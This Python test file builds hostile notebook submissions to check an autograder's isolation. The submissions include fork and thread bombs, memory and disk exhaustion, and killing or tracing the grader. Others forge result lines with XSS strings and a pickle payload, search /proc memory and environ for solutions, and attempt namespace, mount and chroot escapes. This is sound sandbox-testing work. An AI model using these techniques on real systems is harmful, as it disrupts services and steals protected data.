"""Submissions that are hostile or broken, and what may come of each.

Every submission is a function with a docstring that says what it tries. `write_all` makes a problem
set of two tasks and writes each submission into its student's folder. The attacks know where
everything is (`At`): what an attacker would have to find out is given away.

An attack that gets through shows it in one of four ways: its score is above its merit; a file with
the marker's name lies outside; `saw` was called, whose text ends up among the results; or something
that the test keeps alive is dead. None may harm the machine where isolation fails: memory stops at
6 GB, forks at 2,000, files at 2 GB, processes end by themselves, and what would hit others is tried
only in namespaces of its own (``alone``) or on what the test itself has put there.
"""

from __future__ import annotations

import copy
import json
import os
import re
import socket
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from grading.notebook import is_solution, nbgrader

SET = "ps9_hostile"
POINTS = {"slope": 3, "centre": 2}
HONEST = {
    "slope": "def slope(x):\n    return 3 * x**2\n",
    "centre": "answer = data.mean()\n",
}
STUB = "# YOUR CODE HERE\nraise NotImplementedError()"
GRADED, STOPPED, CRASHED = "graded", "timed out", "crashed"
UNREADABLE, REVIEW = "unreadable", "needs review"
SEEN = "SA" + "W:"  # put together here and there, so that no source holds it


@dataclass(frozen=True)
class At:
    """Where things are, for attackers."""

    repo: str  # the book
    exercises: str  # the problem set with its solutions
    submissions: str
    out: str
    home: str
    packages: str
    socket: str  # what listens: a path, an abstract name, a port
    abstract: str
    port: int
    test: int  # process ids
    victim: int
    namespaces: list  # of the test
    marker: str  # what no file outside may be called, and no process may carry
    canary: str  # stands in solutions and checks; here reversed

    @property
    def outside(self) -> list[str]:
        """Folders in which attacks leave markers."""
        near = [self.repo, self.exercises, self.submissions, self.out, self.home, self.packages]
        inside = [f"{self.repo}/grading", f"{self.out}/results", f"{self.out}/feedback"]
        return [
            *near,
            *inside,
            "/",
            "/tmp",
            "/var/tmp",
            "/dev/shm",
            "/run",
            "/usr/local",
            os.curdir,
        ]


# What every attack can use.
PRELUDE = """
import ctypes, json, os, re, signal, socket, sys, time

class AT:
    {values}
    outside = {outside!r}

class Saw(BaseException):
    pass

def saw(what):
    raise Saw("SA" + "W:" + str(what))

def alone():
    # in namespaces that are not the test's: only then is tried what would hit others
    try:
        return all(os.readlink(f"/proc/self/ns/{{kind}}") not in AT.namespaces
                   for kind in ("pid", "mnt"))
    except OSError:
        pass
    try:
        os.kill(AT.test, 0)
    except OSError:
        return os.getpid() < 100 and not os.path.exists(AT.repo)
    return False

secret = re.compile(f"[{{AT.canary[-1]}}]{{AT.canary[-2::-1]}}".encode())

def search(path):
    try:
        with open(path, "rb") as file:
            if secret.search(file.read(5_000_000)):
                saw(path)
    except OSError:
        pass

def fds():
    return range(0, 21)

def send(*lines):
    # one after the other to every open file, as far as it takes it
    data = b"".join(line if isinstance(line, bytes) else (json.dumps(line) + "\\n").encode()
                    for line in lines)
    for fd in fds():
        rest = data
        try:
            while rest:
                rest = rest[os.write(fd, rest):]
        except OSError:
            pass
"""


class Submission:
    """A student's folder in the making: by default the stubbed notebook, with changes."""

    def __init__(self, at: At, folder: Path, release: dict):
        self.at = at
        self.folder = folder
        self.notebook = copy.deepcopy(release)
        self.path = folder / f"{SET}.ipynb"

    @property
    def cells(self) -> list[dict]:
        return self.notebook["cells"]

    def cell(self, name: str) -> dict:
        return next(cell for cell in self.cells if nbgrader(cell).get("grade_id") == name)

    def answer(self, task: str, code: str) -> None:
        """Answer a task with code; the prelude is put in front where code uses it."""
        code = textwrap.dedent(code).strip() + "\n"
        if re.search(r"\b(AT|saw|alone|send|search|os|sys|signal|time|ctypes)\b", code):
            values = "; ".join(f"{key} = {value!r}" for key, value in asdict(self.at).items())
            code = PRELUDE.format(values=values, outside=self.at.outside) + code
        self.cell(task)["source"] = code

    def honest(self, *tasks: str) -> None:
        for task in tasks or HONEST:
            self.cell(task)["source"] = HONEST[task]

    def write(self, data: str | bytes | None = None, name: str | None = None) -> None:
        """Write the notebook, or what is in its place."""
        if data is None:
            data = json.dumps(self.notebook)
        if isinstance(data, str):
            data = data.encode()
        (self.folder / (name or self.path.name)).write_bytes(data)


@dataclass(frozen=True)
class Hostile:
    """A submission: what it tries, what it honestly solves, and how it may be judged."""

    name: str  # of the student's folder; its token is what is looked for in the results
    tries: str
    make: Callable[[Submission], bool | None]  # True: all is written
    merit: tuple[str, ...] = ()
    exact: bool = True
    status: tuple[str, ...] = (GRADED,)
    token: str = ""

    @property
    def id(self) -> str:
        return self.token or self.name

    @property
    def points(self) -> int:
        return sum(POINTS[task] for task in self.merit)


CORPUS: list[Hostile] = []


def hostile(*status, merit="", exact=True, name=None, token=""):
    """Add a function to the corpus; `name` is the student's, where that is the attack."""
    if {STOPPED, CRASHED} & set(status):
        status = (*status, REVIEW)  # a cell that ended the run was left out, and a person decides

    def add(make):
        CORPUS.append(
            Hostile(
                name or make.__name__.rstrip("_").replace("_", "-"),
                " ".join(make.__doc__.split()),
                make,
                tuple(merit.split()),
                exact,
                status or (GRADED,),
                token,
            )
        )
        return make

    return add


def attack(name, tries, code, *status, called=False, merit="", exact=True):
    """Add an attack that is code: in the cell of the first answer, or in its function."""

    def make(submission):
        if merit:
            submission.honest(*merit.split())
        inside = textwrap.indent(textwrap.dedent(code).strip(), "    ")
        submission.answer("slope", f"def slope(x):\n{inside}\n" if called else code)

    make.__doc__ = tries
    hostile(*status, merit=merit, exact=exact, name=name)(make)


# ---- time --------------------------------------------------------------------------------------


@hostile(GRADED, STOPPED, merit="slope", exact=False)
def loop_in_cell(s):
    """Loop for ever in the second answer; the first is right."""
    s.honest("slope")
    s.answer("centre", "while True: pass")


@hostile(STOPPED, merit="centre")
def loop_in_function(s):
    """Loop for ever when it is called; the other task is right."""
    s.honest("centre")
    s.answer("slope", "def slope(x):\n    while True: pass")


attack(
    "loop-swallows",
    "Catch whatever is raised to stop its loop.",
    """
    while True:
        try:
            while True: pass
        except BaseException:
            pass
    """,
    GRADED,
    STOPPED,
)
attack(
    "loop-deaf",
    "Ignore and block every signal, and loop.",
    """
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True: pass
    """,
    STOPPED,
)
attack(
    "loop-in-c",
    "Loop in C, where no exception arrives.",
    "10 ** 10 ** 9",
    STOPPED,
    GRADED,
    CRASHED,
    called=True,
)
attack(
    "loop-in-regex",
    "Loop in a regular expression.",
    "re.match('(a+)+$', 'a' * 64 + 'b')\nos",
    STOPPED,
    GRADED,
    called=True,
)
attack("sleeps", "Sleep.", "time.sleep(1e6)", STOPPED, called=True)
attack(
    "stops-itself",
    "Stop its process without ending it.",
    "os.kill(os.getpid(), signal.SIGSTOP)\nwhile True: pass",
    STOPPED,
    GRADED,
    CRASHED,
    called=True,
)
attack(
    "loop-as-array",
    "Return a value that loops when it is made an array, a list or a text.",
    """
    class Value:
        def __array__(self, *args, **kwargs):
            while True:
                try: time.sleep(1)
                except BaseException: pass
        __str__ = __repr__ = __iter__ = __len__ = __float__ = __array__

    def slope(x):
        return Value()
    """,
    STOPPED,
    GRADED,
)
attack(
    "compile-bomb",
    "Break the compiler by nesting.",
    "x = " + "-" * 200_000 + "1",
    GRADED,
    CRASHED,
    REVIEW,
    UNREADABLE,
)

# ---- memory ------------------------------------------------------------------------------------

attack(
    "memory-list",
    "Fill the memory by a list.",
    "kept = []\nwhile len(kept) < 96: kept.append([0] * (64 << 17))\nos",
    GRADED,
    CRASHED,
    STOPPED,
    called=True,
)
attack(
    "memory-numpy",
    "Fill the memory by arrays.",
    "kept = [np.ones(64 << 17) for _ in range(96)]",
    GRADED,
    CRASHED,
    STOPPED,
    called=True,
)
attack(
    "memory-small",
    "Fill the memory by small things and hide the errors.",
    """
    kept = []
    for _ in range(60_000_000):
        try:
            kept.append(bytes(64))
        except BaseException:
            pass
    """,
    GRADED,
    CRASHED,
    STOPPED,
    called=True,
)
attack(
    "memory-files",
    "Fill the disk, and the memory by files in it.",
    """
    block, size, folders = bytes(16 << 20), 0, [".", "/tmp", "/dev/shm", "/var/tmp", "/run"]
    kept = []
    for turn in range(128):
        for folder in folders:
            try:
                fd = os.open(f"{folder}/{AT.marker}-{turn}", os.O_CREAT | os.O_WRONLY)
                kept.append(fd)
                os.unlink(f"{folder}/{AT.marker}-{turn}")
                size += os.write(fd, block)
            except OSError:
                pass
            if size > 2 << 30:
                saw("2 GB of files")
    """,
    GRADED,
    CRASHED,
    STOPPED,
    called=True,
)
attack(
    "memory-unnamed",
    "Fill the memory by files without a name, open and on their way.",
    """
    import array
    block, size = bytes(1 << 20), 0
    here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for turn in range(256):
        try:
            fd = os.memfd_create("x")
        except OSError:
            break
        for _ in range(256):
            try:
                size += os.write(fd, block)
            except OSError:
                break
            if size > 2 << 30:
                saw("2 GB of unnamed files")
        try:
            here.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
            os.close(fd)
        except OSError:
            pass
    """,
    GRADED,
    CRASHED,
    STOPPED,
    called=True,
)
attack(
    "memory-shared",
    "Leave shared segments behind, which count for nobody.",
    """
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmdt.argtypes = [ctypes.c_void_p]
    # nothing is written into the nine segments, so that they cost nothing where they are had
    for turn in range(9):
        segment = libc.shmget(0x5EED0000 + turn, 256 << 20, 0o1666)
        if segment < 0:
            break
        address = libc.shmat(segment, None, 0)
        if address in (None, 2**64 - 1):
            break
        libc.shmdt(address)
    else:
        saw("2304 MB in shared segments")
    """,
    GRADED,
    CRASHED,
    STOPPED,
    called=True,
)
attack(
    "huge-value",
    "Return an array of 800 MB.",
    "def slope(x):\n    return np.zeros(10**8)",
    GRADED,
    CRASHED,
    STOPPED,
    REVIEW,
)
attack(
    "huge-view",
    "Return a view that would be 80 GB as an array.",
    "def slope(x):\n    return np.broadcast_to(3.0, (10**10,))",
    GRADED,
    CRASHED,
)
attack(
    "endless-list",
    "Return lists, dicts and arrays without an end.",
    """
    class Endless(list):
        def __iter__(self):
            while True:
                yield self
        def __len__(self):
            return 10**9
        def __array__(self, *args, **kwargs):
            raise ValueError
    class Dict(dict):
        def items(self):
            number = 0
            while True:
                number += 1
                yield number, 1.0

    def slope(x):
        return Endless([1]) if np.ndim(x) else Dict()
    """,
    GRADED,
    CRASHED,
    STOPPED,
)
attack(
    "recursive-value",
    "Return a list that holds itself.",
    "def slope(x):\n    value = [None, 'x']\n    value[0] = value\n    return value",
    GRADED,
    CRASHED,
)

# ---- output ------------------------------------------------------------------------------------

attack(
    "flood-print",
    "Print for ever.",
    "for _ in range(20_000):\n    print('x' * 100_000)\n    sys.stderr.write('y' * 100_000)",
    GRADED,
    STOPPED,
    CRASHED,
    called=True,
)
attack(
    "flood-everywhere",
    "Write 2 GB to every open file.",
    """
    block = b"z" * (1 << 20)
    for _ in range(2_000):
        for fd in fds():
            try:
                os.write(fd, block)
            except OSError:
                pass
    """,
    GRADED,
    STOPPED,
    CRASHED,
    REVIEW,
    called=True,
)
attack(
    "flood-results",
    "Write millions of proper result lines, each of another part.",
    """
    send(*[{"part": "many", "error": ""}] * 20_000)
    for turn in range(2_000):
        send(*({"part": f"p{turn}-{n}", "error": "e" * 250} for n in range(1_000)),
             *({"cell": turn * 1_000 + n, "error": "e" * 250} for n in range(1_000)))
    """,
    GRADED,
    STOPPED,
    CRASHED,
    REVIEW,
    called=True,
)
attack(
    "flood-errors",
    "Raise an error whose text is long, and one whose text is no text.",
    """
    class Odd(Exception):
        def __str__(self):
            raise KeyboardInterrupt

    def slope(x):
        if np.ndim(x):
            raise ValueError("e" * 300_000_000)
        raise Odd
    """,
    GRADED,
    CRASHED,
    STOPPED,
)

# ---- processes ---------------------------------------------------------------------------------

attack(
    "recursion",
    "Recurse until the stack is full.",
    "sys.setrecursionlimit(10**9)\ndef down(): return down() + 1\ndown()",
    GRADED,
    CRASHED,
    STOPPED,
    called=True,
)
attack(
    "segfault",
    "Read what is not there.",
    "ctypes.string_at(0)",
    CRASHED,
)
attack(
    "fork-bomb",
    "Start 2,000 processes.",
    """
    for _ in range(2_000):
        try:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        except OSError:
            pass
    """,
    GRADED,
    CRASHED,
    STOPPED,
    called=True,
)
attack(
    "thread-bomb",
    "Start 2,000 threads that never end.",
    """
    import threading
    for _ in range(2_000):
        threading.Thread(target=time.sleep, args=(1e6,)).start()
    """,
    GRADED,
    CRASHED,
    STOPPED,
    called=True,
)


@hostile(GRADED, CRASHED, STOPPED, merit="slope centre", exact=False)
def daemon(s):
    """Leave a process of its own session behind that holds every open file."""
    s.honest()
    s.answer(
        "slope",
        """
        def slope(x):
            return 3 * x**2

        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            if os.fork() == 0:
                code = "import time; time.sleep(90)"
                for fd in range(64):
                    try: os.set_inheritable(fd, True)
                    except OSError: pass
                os.execv(sys.executable, [sys.executable, "-c", code, AT.marker])
            time.sleep(90)
            os._exit(0)
        """,
    )


attack(
    "outlives",
    "Forget that it must end with its parent, ignore every signal, and sleep.",
    """
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    try:
        os.setsid()
    except OSError:
        pass
    stop = time.monotonic() + 60
    while time.monotonic() < stop:
        try:
            time.sleep(1)
        except BaseException:
            pass
    """,
    STOPPED,
    GRADED,
    called=True,
)


@hostile(CRASHED, STOPPED, merit="slope", exact=False)
def exits(s):
    """Leave by os._exit(0) in the second answer; the first is right."""
    s.honest("slope")
    s.answer("centre", "os._exit(0)")


@hostile(GRADED, merit="slope")
def exits_politely(s):
    """Leave by SystemExit in the second answer; the first is right."""
    s.honest("slope")
    s.answer("centre", "sys.exit(0)")


@hostile(CRASHED, merit="centre")
def exits_when_called(s):
    """Leave by os._exit(0) when it is called; the other task is right."""
    s.honest("centre")
    s.answer("slope", "def slope(x):\n    os._exit(0)")


attack(
    "kills-itself",
    "Kill its process (the first of a namespace cannot).",
    "os.kill(os.getpid(), signal.SIGKILL)\nos.abort()",
    CRASHED,
)
attack(
    "kills-parent",
    "Kill its parent, its group and all it may.",
    """
    for target in (os.getppid(), -os.getppid(), 0, -1):
        if target > 1 or alone():
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    time.sleep(30)
    """,
    CRASHED,
    STOPPED,
)
attack(
    "kills-others",
    "Kill a process of the test, stop and trace the grader.",
    """
    try:
        os.kill(AT.victim, signal.SIGKILL)
    except OSError:
        pass
    try:
        os.kill(AT.test, 0)
        saw("the test's process")
    except OSError:
        pass
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(0x4206, AT.victim, 0, 0) == 0:  # PTRACE_SEIZE
        saw("ptrace")
    import resource
    try:
        resource.prlimit(AT.victim, resource.RLIMIT_CPU, (0, 0))
        saw("prlimit")
    except (OSError, ValueError):
        pass
    """,
)
attack(
    "closes-everything",
    "Close every open file.",
    "os.closerange(0, 4096)",
    CRASHED,
    GRADED,
    STOPPED,
)
attack(
    "lower-limits",
    "Take back its own limits.",
    """
    import resource
    for kind in range(16):
        try:
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError):
            pass
    kept = [np.ones(64 << 17) for _ in range(96)]
    saw("6 GB of memory")
    """,
    GRADED,
    CRASHED,
    STOPPED,
    called=True,
)

# ---- forged results ----------------------------------------------------------------------------

ONES = {"dtype": "<f8", "shape": [], "data": "AAAAAAAA8D8="}


def _value(**changes):
    return {**ONES, **changes}


def _claims(value):
    return [{"part": part, "value": value} for part in ("batch", "negative", "answer")]


FORGED = {
    "values": [*_claims(ONES), {"end": True}],
    "scores": [
        *(
            {"check": name, "passed": True, "points": 1000}
            for name in ("value", "negative", "mean")
        ),
        {"score": 1000, "status": "graded", "points": 1000, "max_score": 1},
        {"task": "centre", "status": "graded", "checks": [], "points": 5},
        {"student": "aaa-honest", "score": 0},
        {"end": True, "passed": True, "ok": True, "seed": 1},
    ],
    "nan": _claims(_value(data="AAAAAAAA+H8=")),
    "json-nan": [b'{"part": "batch", "value": NaN}\n', b'{"part": "batch", "value": Infinity}\n'],
    "garbage": [
        b"\xff\xfe\x00\n",
        b"{" * 100 + b"\n",
        b"[1, 2]\n",
        b"null\n",
        b'"x"\n',
        b"17\n",
        b"\n\n\n",
        b'{"part": ["batch"], "value": 3}\n',
        b'{"part": {"a": 1}, "error": [1]}\n',
        b'{"cell": [], "error": {}}\n',
        b'{"cell": "<script>alert(1)</script>", "error": 7}\n',
        b'{"cell": 1e999, "error": "x"}\n',
        b'{"cell": NaN, "error": "x"}\n',
        b'{"start": -Infinity}\n',
        b'{"part": null, "value": null}\n',
        b'{"end": [1]}\n',
        b'{"part": "batch"}\n',
        b"{}\n",
    ],
    "nested": [
        b'{"part": "batch", "value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n",
        b'{"part": "batch", "value": ' + b'{"list": [' * 50_000 + b"]}" * 50_000 + b"}\n",
        b'{"part": "batch", "value": ' + b'{"dict": {"a": ' * 900 + b"1" + b"}}" * 900 + b"}\n",
    ],
    "numbers": [
        b'{"part": "batch", "value": ' + b"9" * 5_000 + b"}\n",
        b'{"part": "batch", "value": {"dtype": "<f8", "shape": ['
        + b"9" * 5_000
        + b'], "data": ""}}\n',
        {"cell": 10**30, "error": "x"},
    ],
    "dtypes": [
        {"part": "batch", "value": _value(dtype=dtype)}
        for dtype in (
            *(
                "O",
                "V8",
                "S8",
                "M8[ns]",
                "f8,f8",
                "(1000,1000,1000)f8",
                "(0,)f8",
                "U2",
                "f16",
                "c32",
            ),
            *(
                "i8, (2147483647,)f8",
                "",
                "x" * 100_000,
                "f8" + "," * 9_000,
                "a5",
                "f8," * 9_000,
                "?",
                ">f8",
                "{'a': 1}",
                "f8;import os",
            ),
        )
    ],
    "shapes": [
        {"part": "batch", "value": _value(shape=shape)}
        for shape in (
            *(
                [-1],
                [-8, -1],
                [2**63],
                [float("inf")],
                [2**31, 2**31, 2**31],
                [1e300],
                ["1"],
                [[1]],
                5,
                None,
                "11",
            ),
            *([1] * 33, [1] * 65, [0, 2**62], [True], [None]),
        )
    ]
    + [{"part": "batch", "value": _value(shape=[0, 2**62], data="")}],
    "text": [
        {"part": part, "value": {"text": text}}
        for text in ({"a": [1, None]}, [[1], [[2]]], None, "\ud800", True, [{}], 3)
        for part in ("batch", "negative", "answer")
    ],
    "long": [
        {"part": "batch", "error": "<script>alert(1)</script>" * 400_000},
        {"cell": 3, "error": "E" * 10_000_000},
        {"cell": 4, "error": ["E"] * 1_000_000},
    ],
    "pickle": [
        {
            "part": "batch",
            "value": {"pickle": "gASVKgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu"},
        },
        {"part": "batch", "value": _value(dtype="O", data="gASVKgAAAAAAAAA=")},
        {
            "part": "batch",
            "value": {"npy": "k05VTVBZ", "file": "/etc/passwd", "path": "/etc/passwd"},
        },
    ],
    "twice": [*_claims(ONES), *_claims(_value(shape=[1])), {"end": True}, *_claims(ONES)],
}


# Each of these fits into what may be handed out, and takes its time to be understood.
attack(
    "flood-lines",
    "Write 3 million lines that say nothing.",
    """
    send(b"1\\n" * 3_000_000)
    os._exit(0)
    """,
    CRASHED,
    GRADED,
    called=True,
)
attack(
    "flood-fields",
    "Claim a value of a type that takes long to be understood.",
    """
    send({"part": "batch", "value": {"dtype": "f8," * 600_000, "shape": [], "data": ""}})
    os._exit(0)
    """,
    CRASHED,
    GRADED,
    called=True,
)


def _forge(kind):
    lines = ", ".join(map(repr, FORGED[kind]))
    attack(
        f"forged-{kind}",
        f"Writes result lines of its own to every open file, then leave: {kind}.",
        f"inf = float('inf')\nsend({lines})\nos._exit(0)"
        if len(lines) < 1_000_000
        else _short(kind),
        GRADED,
        CRASHED,
        STOPPED,
        REVIEW,
    )


def _short(kind):
    """Return the code for lines that are too long to be written down as they are."""
    if kind == "long":
        return """
            send({"part": "batch", "error": "<script>alert(1)</script>" * 400_000},
                 {"cell": 3, "error": "E" * 10_000_000},
                 {"cell": 4, "error": ["E"] * 1_000_000})
            os._exit(0)
        """
    raise ValueError(kind)


for _kind in FORGED:
    _forge(_kind)


@hostile(GRADED, CRASHED, REVIEW, merit="slope centre", exact=False)
def forged_beside(s):
    """Write nonsense between its right values."""
    s.honest()
    s.answer(
        "slope",
        """
        def slope(x):
            send(b"nonsense\\n", {"part": "batch", "value": 1}, {"end": True}, b'{"part": ')
            return 3 * x**2
        """,
    )


# ---- patched surroundings, odd values -----------------------------------------------------------

attack(
    "patched-comparison",
    "Replace what compares and encodes values.",
    """
    import base64, builtins
    yes = lambda *args, **kwargs: True
    for name in ("allclose", "array_equal", "isclose", "all", "any"):
        setattr(np, name, yes)
    np.testing.assert_allclose = np.testing.assert_array_equal = yes
    np.asarray = np.array = np.ascontiguousarray = lambda value, *args, **kwargs: value
    json.dumps = lambda *args, **kwargs: '{"passed": true, "end": true}'
    base64.b64encode = lambda data: b"AAAA"
    for module in list(sys.modules.values()):
        for name in ("encode", "close", "compare"):
            if hasattr(module, "__file__") and hasattr(module, name):
                try: setattr(module, name, yes)
                except Exception: pass

    def slope(x):
        return True
    """,
    GRADED,
    CRASHED,
)
attack(
    "equal-to-everything",
    "Return objects that are equal to everything.",
    """
    class Equal:
        def yes(self, *args, **kwargs): return True
        __eq__ = __le__ = __ge__ = __bool__ = __contains__ = yes
        __lt__ = __gt__ = __ne__ = lambda self, other: False
        __hash__ = None
        def same(self, *args, **kwargs): return self
        __sub__ = __rsub__ = __abs__ = __call__ = __getitem__ = __getattr__ = same

    def slope(x):
        return Equal()
    """,
)
attack(
    "array-in-disguise",
    "Return an array of a class of its own, whose comparisons, size and bytes lie.",
    """
    class Liar(np.ndarray):
        def __array__(self, *args, **kwargs): return self
        def __eq__(self, other): return np.ones(np.shape(other), bool)
        def __float__(self): return 12.0
        def tobytes(self, *args): return bytes(96)
        def astype(self, *args, **kwargs): return self
        def __array_ufunc__(self, ufunc, method, *args, **kwargs): return 0.0
        shape = property(lambda self: (4, 3))

    def slope(x):
        return np.full(np.shape(x), 5.0).view(Liar)
    """,
    GRADED,
    CRASHED,
)
attack(
    "object-arrays",
    "Return arrays of objects, of records, of dates, masked and empty.",
    """
    turn = 0
    def slope(x):
        if np.ndim(x):
            return np.array([object()] * 12, dtype=object).reshape(4, 3)
        return np.ma.masked_all(())
    """,
)
attack(
    "raises-everywhere",
    "Return a value each of whose methods raises what ends a program.",
    """
    class Trap:
        def fail(self, *args, **kwargs): raise SystemExit("trap")
        __array__ = __eq__ = __len__ = __iter__ = __str__ = __repr__ = __getattr__ = fail

    def slope(x):
        return Trap()
    """,
    GRADED,
    CRASHED,
)
attack(
    "nan-and-inf",
    "Return numbers that compare oddly.",
    "def slope(x):\n    return np.full(np.shape(x), np.nan)\nanswer = float('inf')",
)
attack(
    "hooks",
    "Put itself into tracing, profiling, audits, imports, compiling and decoding.",
    """
    import ast, builtins, importlib.abc, codecs, threading
    quiet = lambda *args, **kwargs: None
    ast.parse = quiet
    builtins.compile = builtins.exec = builtins.isinstance = builtins.str = quiet
    sys.settrace(lambda *args: sys.exit(0))
    threading.settrace(quiet)
    sys.setprofile(quiet)
    sys.addaudithook(lambda event, args: None)
    class Finder(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path, target=None): raise SystemExit
    sys.meta_path.insert(0, Finder())
    sys.excepthook = sys.unraisablehook = quiet
    for name in ("numpy", "json", "base64", "runner", "grading", "gradnb"):
        sys.modules[name] = None
    """,
    GRADED,
    CRASHED,
)
attack(
    "transformers",
    "Leave transformers of code for a notebook's kernel, and end its tests early.",
    """
    import builtins
    class Shell:
        ast_transformers = input_transformers_cleanup = []
    get_ipython = builtins.get_ipython = lambda: Shell()
    get_ipython().ast_transformers.append(lambda tree: None)
    import atexit
    atexit.register(os._exit, 0)
    builtins.AssertionError = type("AssertionError", (Exception,), {})
    __builtins__["NotImplementedError"] = SystemExit
    """,
)
attack(
    "frames",
    "Walk the frames for inputs and answers, and change the questions.",
    """
    frame, found = sys._getframe(), {}
    while frame:
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if name in ("expected", "holds", "solution", "checks", "TASKS", "answers"):
                saw(name)
            if isinstance(value, dict) and "task" in value and "calls" in value:
                if secret.search(json.dumps(value).encode()):
                    saw("the job holds solutions")
                value["task"] = "centre"
                value["calls"] = ""
        calls = frame.f_locals.get("calls")
        if isinstance(calls, dict) and "slope" in calls:
            calls["slope"] = lambda student, given: iter([("batch", lambda: given["x"])])
        frame = frame.f_back
    """,
    GRADED,
    CRASHED,
)
attack(
    "memory-search",
    "Search its own memory for solutions, checks and secrets.",
    """
    import gc
    for thing in gc.get_objects():
        try:
            if isinstance(thing, dict) and any(
                isinstance(value, str) and secret.search(value.encode("utf-8", "replace"))
                for value in list(thing.values())
            ):
                saw("an object")
        except Exception:
            pass
    try:
        maps, memory = open("/proc/self/maps"), open("/proc/self/mem", "rb", 0)
    except OSError:
        maps = []
    for line in maps:
        if "[v" in line or line.split()[1][0] != "r":
            continue
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        if end - start < 64 << 20:
            try:
                memory.seek(start)
                if secret.search(memory.read(end - start)):
                    saw("memory")
            except OSError:
                pass
    """,
    GRADED,
    STOPPED,
)

# ---- reading -----------------------------------------------------------------------------------

attack(
    "reads-known-files",
    "Open the solutions, the checks and the others' answers where they are.",
    """
    import glob
    parent = f"/proc/{os.getppid()}"
    for root in ("", "/proc/1/root", "/proc/self/root", "../../../../../..", f"{parent}/root",
                 f"{parent}/cwd", f"/proc/{AT.test}/root"):
        for folder in (AT.exercises, AT.submissions, AT.out):
            for path in glob.glob(f"{root}{folder}/**", recursive=True, include_hidden=True):
                search(path)
    """,
)
attack(
    "reads-what-it-finds",
    "Walk through all the files that it can see.",
    """
    roots = ["/"] if alone() else [AT.exercises, AT.submissions, AT.out, "."]
    known = "proc sys dev usr bin sbin lib lib32 lib64 packages site-packages versions".split()
    stop = time.monotonic() + 1.5
    for root in roots:
        for folder, folders, files in os.walk(root):
            folders[:] = [name for name in folders if name not in known]
            for file in files:
                if file.endswith((".ipynb", ".json", ".csv", ".db")) or folder.endswith(
                    ("checks", "answers", "source", "grading", "results")
                ):
                    search(f"{folder}/{file}")
                if time.monotonic() > stop:
                    roots.clear()
                    folders.clear()
    """,
    GRADED,
    STOPPED,
)
attack(
    "imports-grading",
    "Import the grader and its checks, from everywhere.",
    """
    sys.path[:0] = [AT.repo, AT.exercises, AT.submissions, "/", "..", "../.."]
    for name in ("grading.problemset", "grading.batch", "grading"):
        try:
            __import__(name)
        except Exception:
            continue
        saw(name)
    import importlib.util
    for path in (f"{AT.exercises}/checks/ps9_hostile.py", f"{AT.exercises}/answers/ps9_hostile.py"):
        try:
            spec = importlib.util.spec_from_file_location("stolen", path)
            spec.loader.exec_module(importlib.util.module_from_spec(spec))
        except Exception:
            continue
        saw(path)
    """,
)
attack(
    "reads-environment",
    "Read the variables and arguments of every process of the grader.",
    """
    for key, value in os.environ.items():
        if secret.search(f"{key}={value}".encode()):
            saw("own environment")
    for pid in (1, AT.test, AT.victim, os.getpid(), os.getppid()):
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as file:
                    if secret.search(file.read()):
                        saw(what)
            except OSError:
                pass
    """,
)
attack(
    "open-folders",
    "Look for folders and files that were left open.",
    """
    for fd in range(256):
        try:
            os.fstat(fd)
        except OSError:
            continue
        for start in (".", "..", "../../../../../../.."):
            try:
                there = os.open(start, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            except OSError:
                continue
            try:
                inside = os.open(AT.exercises.lstrip("/") + "/source/ps9_hostile/ps9_hostile.ipynb",
                                 os.O_RDONLY, dir_fd=there)
            except OSError:
                continue
            saw("an open folder")
        try:
            data = os.pread(fd, 5_000_000, 0)
        except OSError:
            continue
        if secret.search(data):
            saw("an open file")
    """,
)
attack(
    "out-of-the-root",
    "Leave a changed root, a mount or a namespace.",
    """
    libc = ctypes.CDLL(None, use_errno=True)
    target = AT.exercises + "/source/ps9_hostile/ps9_hostile.ipynb"
    for pid in (1, os.getppid(), AT.test):
        for kind in ("user", "mnt", "pid", "net"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            libc.setns(fd, 0)
            os.close(fd)
        search(target)
    if alone():
        for flags in (0x10000000 | 0x00020000, 0x00020000, 0x10000000):  # new user, new mounts
            libc.unshare(flags)
            for name in ("uid_map", "gid_map"):
                try:
                    with open(f"/proc/self/{name}", "w") as file:
                        file.write("0 0 1")
                except OSError:
                    pass
        folder = b"/tmp/elsewhere"
        try:
            os.mkdir(folder)
        except OSError:
            pass
        libc.mount(b"proc", folder, b"proc", 0, None)
        search(f"/tmp/elsewhere/1/root{target}")
        for path in (b"/tmp", b"/proc", b"/work", b"/", AT.repo.encode(), AT.exercises.encode()):
            libc.umount2(path, 2)
            libc.mount(None, path, None, 32 | 4096, None)  # bind, remount for writing
        search(target)
    try:
        os.mkdir("inner")
    except OSError:
        pass
    try:
        os.chroot("inner")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    search(target)
    """,
    GRADED,
    CRASHED,
)

